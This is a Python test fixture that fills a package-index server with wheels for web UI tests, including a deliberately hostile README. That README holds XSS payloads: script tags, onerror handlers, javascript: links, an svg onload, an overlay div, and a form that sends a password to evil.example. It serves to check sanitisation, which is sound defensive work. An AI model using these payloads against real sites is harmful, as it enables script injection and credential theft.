"""A filled server for the web UI tests: a user, a stage with releases that carry READMEs,
keywords and classifiers, uploaded with real twine."""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

from tests.support.api import call, doc_zip, twine_upload, upload_docs
from tests.support.packages import Dist, build_wheel
from tests.support.server import ROOT_PASSWORD, CheeseboardServer

ROOT = ("root", ROOT_PASSWORD)
ALICE = ("alice", "alice-secret")
STAGE = "alice/dev"

WIDGETS_README = """\
# Cheesy Widgets

Widgets for **every** cheeseboard.

| size | holes |
|------|-------|
| big  | many  |

```python
import cheesy_widgets
cheesy_widgets.slice("gouda")
```
"""

HOSTILE_README = """\
# Totally harmless

<script>window.__pwned = "script"; alert("script")</script>
<img src="x" onerror="window.__pwned = 'onerror'; alert('onerror')">
<a href="javascript:window.__pwned='href';alert('href')" id="bad-link">click me</a>
<a href="data:text/html,<script>alert(1)</script>">data link</a>
<svg onload="window.__pwned='svg'"><circle r="5"/></svg>
<iframe src="javascript:alert('iframe')"></iframe>
<style>body { display: none }</style>
<form action="https://evil.example/steal"><input name="password"></form>
<div onclick="window.__pwned='click'" style="position:fixed;inset:0">overlay</div>
<object data="javascript:alert(1)"></object>
<p><a href="https://example.org/ok">a fine link</a></p>
"""


@dataclass(frozen=True)
class Filled:
    server: CheeseboardServer
    dists: dict[str, list[Dist]]

    @property
    def url(self) -> str:
        return self.server.url


def _upload(server: CheeseboardServer, *dists: Dist) -> None:
    done = twine_upload(f"{server.url}{STAGE}/", *ALICE, *(d.path for d in dists))
    assert done.returncode == 0, done.stdout + done.stderr


def fill(server: CheeseboardServer, dest: Path) -> Filled:
    status, _ = call(server.url, "PUT", "/alice", {"password": ALICE[1]}, auth=ROOT)
    assert status == 201
    status, body = call(server.url, "PUT", f"/{STAGE}", {"bases": ["root/pypi"]}, auth=ROOT)
    assert status == 200, body
    widgets_headers = [
        "Description-Content-Type: text/markdown",
        "Keywords: cheese,slicing,widgets",
        "Classifier: Framework :: Cheeseboard",
        "Classifier: Programming Language :: Python :: 3",
        "Home-page: https://example.org/widgets",
        "Project-URL: Source, https://example.org/widgets/src",
        "Project-URL: Evil, javascript:alert(1)",
        "License: MIT",
    ]
    dists = {
        "cheesy-widgets": [
            build_wheel(
                dest,
                "cheesy-widgets",
                version,
                summary="Slicing widgets for the cheese board",
                headers=widgets_headers,
                description=WIDGETS_README,
                requires_python=">=3.9",
            )
            for version in ("1.0", "1.1")
        ],
        "evil-readme": [
            build_wheel(
                dest,
                "evil-readme",
                "0.1",
                summary="A README that tries everything",
                headers=["Description-Content-Type: text/markdown"],
                description=HOSTILE_README,
            ),
            build_wheel(
                dest,
                "evil-rst",
                "0.1",
                summary="An RST README that tries everything",
                headers=["Description-Content-Type: text/x-rst"],
                description=(
                    "Title\n=====\n\n.. raw:: html\n\n   <script>window.__pwned='raw'</script>\n\n"
                    "`bad <javascript:window.__pwned='rst'>`_\n"
                ),
            ),
        ],
        "brie-tools": [
            build_wheel(
                dest,
                "brie-tools",
                "2.0",
                summary="Tools for soft cheese",
                headers=["Keywords: brie,soft"],
            )
        ],
    }
    for built in dists.values():
        _upload(server, *built)
    # Documentation whose script reports the origin it runs in (sandboxed: "null").
    docs = doc_zip(
        {
            "index.html": "<!doctype html><title>docs</title><h1>Widget docs</h1>"
            "<script>document.title = 'origin:' + window.origin;</script>"
        }
    )
    status, body = upload_docs(server.url, STAGE, "cheesy-widgets", "1.1", docs, ALICE)
    assert status == 200, body
    return Filled(server, dists)
